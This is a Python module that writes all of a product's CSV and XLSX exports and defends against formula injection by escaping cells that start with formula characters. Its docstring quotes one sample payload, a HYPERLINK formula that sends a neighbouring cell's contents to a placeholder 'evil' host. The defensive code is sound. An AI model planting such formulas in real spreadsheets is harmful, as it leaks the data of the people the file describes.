"""The one spreadsheet writer: every CSV and XLSX the product produces is written here (ADR 0130).

A spreadsheet reads text that begins with ``= + - @``, a tab or a carriage return as a formula
(CSV injection: ``=HYPERLINK("http://evil/?"&A1, "open")`` sends a neighbouring cell away when
clicked). Every text cell — headers included, whatever reached them (a record's name, a query
parameter) — is neutralised with a leading apostrophe; the importer removes it again, so an
export read back is the file that was written (ADR 0127). A plain number written as text
(``-12``, ``+7.5``, ``-1e-05``) is left as it is: a spreadsheet reads it as the number.

XLSX cells are never formulas: text is stored as a string cell (``t="s"``/inline), numbers as
numbers; nothing here writes an ``<f>`` element. Workbooks are written in openpyxl's write-only
mode, which keeps one row in memory (exports of ~100 k pupils stream).

Nothing else in ``src/`` may call ``csv.writer`` or open an openpyxl ``Workbook`` for output
(``core/tests/test_spreadsheets.py`` greps for it; the importer's internal scratch files are
named there as the only exceptions).
"""

from __future__ import annotations

import csv
import datetime as dt
import functools
import io
import re
from collections.abc import Iterable, Iterator, Sequence
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path
from typing import IO, Any

FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[-+]?\d+(?:[.,]\d+)?(?:[eE][-+]?\d+)?")

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
CSV_TYPE = "text/csv; charset=utf-8"


def neutralise(text: str) -> str:
    """``text`` as a spreadsheet reads it literally: a leading apostrophe before a formula
    start. Idempotent (an apostrophe is not a formula start)."""
    if text and text[0] in FORMULA_PREFIXES and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def unneutralise(text: str) -> str:
    """Undo :func:`neutralise` (the importer reads exports back)."""
    if len(text) > 1 and text[0] == "'" and text[1] in FORMULA_PREFIXES:
        return text[1:]
    return text


def cell_value(value: Any) -> Any:
    """The value written for one cell: text neutralised, numbers and dates as they are,
    ``None`` empty, anything else as its neutralised text."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return int(value)
    if isinstance(value, int | float | Decimal | dt.date | dt.datetime):
        return value
    return neutralise(str(value))


# --- CSV ----------------------------------------------------------------------------------


class _Echo:
    def write(self, value: str) -> str:
        return value


def csv_stream(
    header: Sequence[Any],
    rows: Iterable[Sequence[Any]],
    *,
    delimiter: str = ";",
    bom: bool = True,
    lineterminator: str = "\r\n",
) -> Iterator[bytes]:
    """UTF-8 (with a BOM by default, so Excel opens it correctly), streamed in chunks."""
    writer = csv.writer(_Echo(), delimiter=delimiter, lineterminator=lineterminator)
    first = writer.writerow([cell_value(h) for h in header])
    yield (("\ufeff" if bom else "") + first).encode("utf-8")
    chunk: list[str] = []
    for row in rows:
        chunk.append(writer.writerow([cell_value(v) for v in row]))
        if len(chunk) >= 1000:
            yield "".join(chunk).encode("utf-8")
            chunk = []
    if chunk:
        yield "".join(chunk).encode("utf-8")


def csv_bytes(
    header: Sequence[Any],
    rows: Iterable[Sequence[Any]],
    *,
    delimiter: str = ";",
    bom: bool = True,
    lineterminator: str = "\r\n",
) -> bytes:
    return b"".join(
        csv_stream(header, rows, delimiter=delimiter, bom=bom, lineterminator=lineterminator)
    )


# --- XLSX ---------------------------------------------------------------------------------


@dataclass(frozen=True)
class Cell:
    """A cell with a look: bold, a fill colour (``"FFC7CE"``), a comment, a number format
    (``"#,##0"``: the reader's spreadsheet groups the digits in its own locale)."""

    value: Any
    bold: bool = False
    fill: str | None = None
    comment: str | None = None
    number_format: str | None = None


class Sheet:
    """One write-only worksheet. Set widths and frozen panes before the first row."""

    def __init__(self, ws: Any) -> None:
        self._ws = ws

    def width(self, column: str, width: float) -> None:
        self._ws.column_dimensions[column].width = width

    def freeze(self, ref: str) -> None:
        self._ws.freeze_panes = ref

    def append(self, row: Iterable[Any], *, bold: bool = False) -> None:
        self._ws.append([_cell(self._ws, v, bold=bold) for v in row])


@functools.cache
def _openpyxl() -> Any:
    """openpyxl's cell and comment classes, imported once (not once a cell: a report of ten
    thousand refused rows spent a quarter of its time in the imports)."""
    from openpyxl.cell import WriteOnlyCell
    from openpyxl.comments import Comment

    return WriteOnlyCell, Comment


@functools.cache
def _font_bold() -> Any:
    from openpyxl.styles import Font

    return Font(bold=True)


@functools.cache
def _fill(color: str) -> Any:
    from openpyxl.styles import PatternFill

    return PatternFill("solid", fgColor=color)


def _cell(ws: Any, value: Any, *, bold: bool = False) -> Any:
    write_only_cell, comment = _openpyxl()
    look = value if isinstance(value, Cell) else Cell(value, bold=bold)
    v = cell_value(look.value)
    c = write_only_cell(ws, value=v)
    if isinstance(v, str):
        c.data_type = "s"  # never "f", whatever the text
    if look.bold or bold:
        c.font = _font_bold()
    if look.fill:
        c.fill = _fill(look.fill)
    if look.comment:
        c.comment = comment(neutralise(look.comment), "Keleshek")
    if look.number_format and not isinstance(v, str):
        c.number_format = look.number_format
    return c


class Book:
    """A write-only workbook: ``book.sheet(title)`` then ``book.save(path_or_file)``."""

    def __init__(self) -> None:
        from openpyxl import Workbook

        self._wb = Workbook(write_only=True)

    def sheet(self, title: str) -> Sheet:
        clean = re.sub(r"[\[\]:*?/\\]", " ", title).strip("'")[:31] or "data"
        return Sheet(self._wb.create_sheet(clean))

    def save(self, dest: Path | IO[bytes]) -> None:
        self._wb.save(dest)

    def bytes(self) -> bytes:
        buf = io.BytesIO()
        self._wb.save(buf)
        return buf.getvalue()


def write_xlsx(
    dest: Path | IO[bytes],
    header: Sequence[Any],
    rows: Iterable[Sequence[Any]],
    *,
    title: str = "data",
    text: bool = False,
) -> None:
    """One sheet: a bold header, then the rows. ``text=True`` writes every cell as text (codes
    and identifiers keep their leading zeros)."""
    book = Book()
    sheet = book.sheet(title)
    sheet.append(header, bold=True)
    for row in rows:
        sheet.append(["" if v is None else str(v) for v in row] if text else row)
    book.save(dest)


def xlsx_bytes(
    header: Sequence[Any], rows: Iterable[Sequence[Any]], *, title: str = "data"
) -> bytes:
    buf = io.BytesIO()
    write_xlsx(buf, header, rows, title=title)
    return buf.getvalue()


__all__ = [
    "CSV_TYPE",
    "FORMULA_PREFIXES",
    "XLSX_TYPE",
    "Book",
    "Cell",
    "Sheet",
    "cell_value",
    "csv_bytes",
    "csv_stream",
    "neutralise",
    "unneutralise",
    "write_xlsx",
    "xlsx_bytes",
]
